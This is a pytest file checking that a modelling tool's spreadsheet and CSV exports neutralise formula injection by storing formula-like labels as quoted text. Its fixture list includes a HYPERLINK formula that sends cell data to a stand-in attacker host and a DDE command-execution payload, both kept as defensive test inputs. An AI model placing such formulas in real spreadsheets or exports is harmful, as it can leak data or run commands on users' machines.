"""Spreadsheets and CSV (issue 15, part 4): text that a spreadsheet could take for a formula
is written as text in every export we make, and a label survives a download and an upload
unchanged."""

from __future__ import annotations

import io
import re
import zipfile

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from coproduce.model import load_model
from coproduce.model.serialise import model_to_data
from coproduce.reports.model_files import (
    FORMULA_STARTS,
    csv_safe,
    csv_text,
    text_only,
    write_elements_xlsx,
    write_model_xlsx,
)

from .mutations import base

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tindented",
    "=1",
    "#N/A",
    " leading and trailing ",
    "=cmd|' /C calc'!A0",
    "{dist: normal}",
]


def _hostile_model() -> dict:
    data = base("older-people")
    for (_iid, itv), label in zip(data["interventions"].items(), HOSTILE, strict=False):
        itv["label"] = label
        itv["notes"] = label
    first = next(iter(data["outcomes"]))
    data["outcomes"][first]["label"] = "-falls avoided"
    data["resources"][next(iter(data["resources"]))]["source"] = "@source"
    data["links"][0]["notes"] = "=2+3"
    data["name"] = "=a model"
    data["description"] = "{dist: normal, mean: 1, sd: 1}"
    return data


def _formulas(path) -> list[str]:
    """The formulas in a workbook's XML (there should be none)."""
    with zipfile.ZipFile(path) as z:
        return [
            m
            for name in z.namelist()
            if name.startswith("xl/worksheets/")
            for m in re.findall(r"<f[ >].*?</f>", z.read(name).decode())
        ]


def test_labels_that_look_like_formulas_round_trip_exactly(tmp_path):
    model = load_model(_hostile_model())
    path = tmp_path / "m.xlsx"
    write_model_xlsx(model, path)
    assert _formulas(path) == []
    back = load_model(path)
    assert model_to_data(back) == model_to_data(model)
    assert [i.label for i in back.interventions.values()][: len(HOSTILE)] == HOSTILE
    # a spreadsheet shows them as text: each is a string cell marked as quoted text
    ws = load_workbook(path)["interventions"]
    cells = [
        c
        for row in ws.iter_rows(min_row=2)
        for c in row
        if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)
    ]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_the_elements_workbook_holds_no_formula(tmp_path):
    path = tmp_path / "e.xlsx"
    write_elements_xlsx(load_model(_hostile_model()), path)
    assert _formulas(path) == []
    labels = [c.value for c in load_workbook(path)["Elements"]["A"]]
    assert set(HOSTILE) - {" leading and trailing "} <= set(labels)


def test_an_older_download_with_formula_labels_reads_back_their_text(tmp_path):
    """Workbooks written before this fix held ``=x`` labels as formulas with no saved value:
    they read back as the text; a formula a spreadsheet did compute gives its value."""
    path = tmp_path / "old.xlsx"
    write_model_xlsx(load_model("example:older-people"), path)
    wb = load_workbook(path)
    ws = wb["interventions"]
    ws["B2"] = "=falls classes"  # a formula, saved with no value
    ws["B3"] = '="computed"&" label"'  # a formula whose value the spreadsheet saved
    wb.save(path)
    with zipfile.ZipFile(path) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    formula = b'<c r="B3"><f>"computed"&amp;" label"</f><v /></c>'
    sheet = next(n for n, b in parts.items() if formula in b)
    # what a spreadsheet saves: the formula, and its value as text
    parts[sheet] = parts[sheet].replace(
        formula, b'<c r="B3" t="str"><f>"computed"&amp;" label"</f><v>computed label</v></c>'
    )
    with zipfile.ZipFile(path, "w") as z:
        for n, b in parts.items():
            z.writestr(n, b)
    labels = [i.label for i in load_model(path).interventions.values()]
    assert labels[0] == "=falls classes"
    assert labels[1] == "computed label"


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@x", "\tx", "\rx"])
def test_csv_cells_that_could_be_formulas_get_a_quote(value):
    assert csv_text(value) == "'" + value
    frame = pd.DataFrame(
        {"label": [value, "fine", None], "n": [-1.5, 2, 3], value: ["x", "y", "z"]}
    )
    safe = csv_safe(frame)
    assert list(safe["label"][:2]) == ["'" + value, "fine"] and pd.isna(safe["label"][2])
    assert list(safe["n"]) == [-1.5, 2, 3] and safe["n"].dtype == frame["n"].dtype
    assert list(safe.columns) == ["label", "n", "'" + value]
    assert frame["label"][0] == value  # the frame itself is untouched


def test_text_only_cleans_a_workbook_built_elsewhere(tmp_path):
    wb = Workbook()
    ws = wb.active
    ws.append(["=1+1", "-x", 3, "ok", "#REF!"])
    text_only(wb)
    path = tmp_path / "x.xlsx"
    wb.save(path)
    assert _formulas(path) == []
    assert [c.value for c in load_workbook(path).active[1]] == ["=1+1", "-x", 3, "ok", "#REF!"]


@pytest.mark.parametrize("store", ["sqlite"], indirect=True)
def test_a_download_uploaded_again_keeps_its_labels(world, web_factory):
    w = web_factory("a", "analyst")
    model, _v = world.store.create_model(world.actor("a", "analyst"), "hostile", _hostile_model())
    for fmt in ("xlsx", "yaml", "json"):
        got = w.get(f"/models/{model.id}/download/{fmt}")
        assert got.status_code == 200
        if fmt == "xlsx":
            path_formulas = _formulas(io.BytesIO(got.content))
            assert path_formulas == []
        again = w.post(
            "/models",
            data={"csrf_token": w.csrf, "name": f"again {fmt}"},
            files={"file": (f"m.{fmt}", got.content, "application/octet-stream")},
        )
        assert again.status_code == 303, again.text[:2000]
        new_id = int(again.headers["location"].split("/")[2].split("?")[0])
        stored = world.store.get_version(world.actor("a", "analyst"), new_id, 1).data
        assert stored == world.store.get_version(world.actor("a", "analyst"), model.id, 1).data
    elements = w.get(f"/models/{model.id}/download/elements-xlsx")
    assert _formulas(io.BytesIO(elements.content)) == []
